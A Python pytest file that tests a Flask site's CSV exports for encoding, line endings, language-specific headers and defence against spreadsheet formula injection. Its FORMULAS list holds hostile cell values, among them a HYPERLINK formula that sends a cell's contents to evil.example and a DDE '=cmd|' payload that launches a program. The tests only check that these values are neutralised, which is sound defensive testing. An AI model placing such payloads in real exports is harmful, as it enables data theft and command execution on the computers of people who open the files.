"""CSV files open in spreadsheets as they are, and never contain a formula."""

from __future__ import annotations

import re
from functools import partial
from pathlib import Path

import pytest
from flask import Flask

from battkomp.content.model import Unit
from battkomp.data import files
from battkomp.data.columns import Amount, CodedValue
from battkomp.data.datasets import dataset
from battkomp.data.files import Dialect, cell, dialect, harmless
from battkomp.languages import LANGUAGES as SITE_LANGUAGES
from tests.support.datasets import KEYS, LANGUAGES, SEPARATORS, address, as_csv, column
from tests.support.sites import change, edited_seed, settings_in, site
from tests.support.visitor import Visitor

FORMULAS = [
    *("=1+1", '=HYPERLINK("https://evil.example/?"&A1;"Klikk")', "=cmd|' /C calc'!A0"),
    *("+47 22 00 00 00", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1"),
    *("  =1+1", "\u00a0=1+1", "\uff1d1+1", "\uff20SUM(1)"),
]
TEXTS = ["", "Ås", "a=b", "2021–2022", "67", "https://a.example/?=", "«-»"]


def test_only_formulas_get_an_apostrophe() -> None:
    assert [harmless(text) for text in FORMULAS] == [f"'{text}" for text in FORMULAS]
    assert [harmless(text) for text in TEXTS] == TEXTS


def test_bytes_are_utf_8_with_a_mark_and_lines_end_with_crlf(visitor: Visitor) -> None:
    faults = []
    for language in LANGUAGES:
        for key in KEYS:
            data = visitor.ask(address(language, key, "csv")).data
            text = data.decode("utf-8")
            is_marked = text.startswith("\ufeff") and text.count("\ufeff") == 1
            if not is_marked or not text.endswith("\r\n") or "\n" in text.replace("\r\n", ""):
                faults.append((language, key))
    assert faults == []


def test_letters_are_written_in_utf_8(visitor: Visitor) -> None:
    text = visitor.ask(address("nb", "organisations", "csv")).data.decode("utf-8-sig")
    assert {"æ", "ø", "å"} <= set(text)
    assert "Ã" not in text


def test_the_header_and_the_dialect_are_those_of_the_language(visitor: Visitor) -> None:
    assert as_csv(visitor, "nb", "figures")[0][:3] == ["Nøkkel", "Hva tallet gjelder", "Verdi"]
    assert as_csv(visitor, "en", "figures")[0][:3] == ["Key", "What is counted", "Value"]
    assert {one.tag: dialect(one).separator for one in SITE_LANGUAGES} == SEPARATORS
    assert {one.tag: dialect(one).decimal for one in SITE_LANGUAGES} == {"nb": ",", "en": "."}


def test_malicious_content_is_written_whole_and_harmless(tmp_path: Path) -> None:
    title = change(
        'title.nb = "Tilgang på batterikompetanse er en utfordring"',
        """title.nb = '=1+1;"@x",\\x'""",
    )
    body = partial(
        re.sub, r'body.nb = "Det sa 92.*"', 'body.nb = "-1; «+»\\\\n\\\\n=2,5 \\\\"så\\\\" 💥"'
    )
    publisher = change('publisher = "Teknisk Ukeblad"', 'publisher = "@Teknisk"')
    seed = edited_seed(tmp_path, findings=lambda text: body(title(text)), sources=publisher)
    visitor = Visitor(site(settings_in(tmp_path), seed))
    row = as_csv(visitor, "nb", "findings")[1]
    assert row[1] == '\'=1+1;"@x",\\x'
    assert row[2] == '\'-1; «+»\n\n=2,5 "så" 💥'
    assert "'@Teknisk" in column(visitor, "nb", "sources", "publisher")


@pytest.mark.parametrize(("decimal", "written"), [(",", "-67,5"), (".", "-67.5")])
def test_a_negative_number_stays_a_number(decimal: str, written: str) -> None:
    value = Amount(-67.5, Unit.COUNT, CodedValue("exact", "exactly"))
    assert cell(value, Dialect(";", decimal)) == written
    assert cell("-67,5", Dialect(";", decimal)) == "'-67,5"


def test_no_cell_of_the_shipped_content_is_a_formula(visitor: Visitor) -> None:
    cells = [
        text
        for key in KEYS
        for language in LANGUAGES
        for row in as_csv(visitor, language, key)
        for text in row
    ]
    assert [text for text in cells if text.startswith(tuple("=+-@\t\r"))] == []


def test_the_same_data_gives_the_same_bytes(app: Flask) -> None:
    written = set()
    for _time in range(2):
        with app.test_request_context("/nb/"):
            written.add(files.as_csv(dataset("findings")) + files.as_json(dataset("findings")))
    assert len(written) == 1
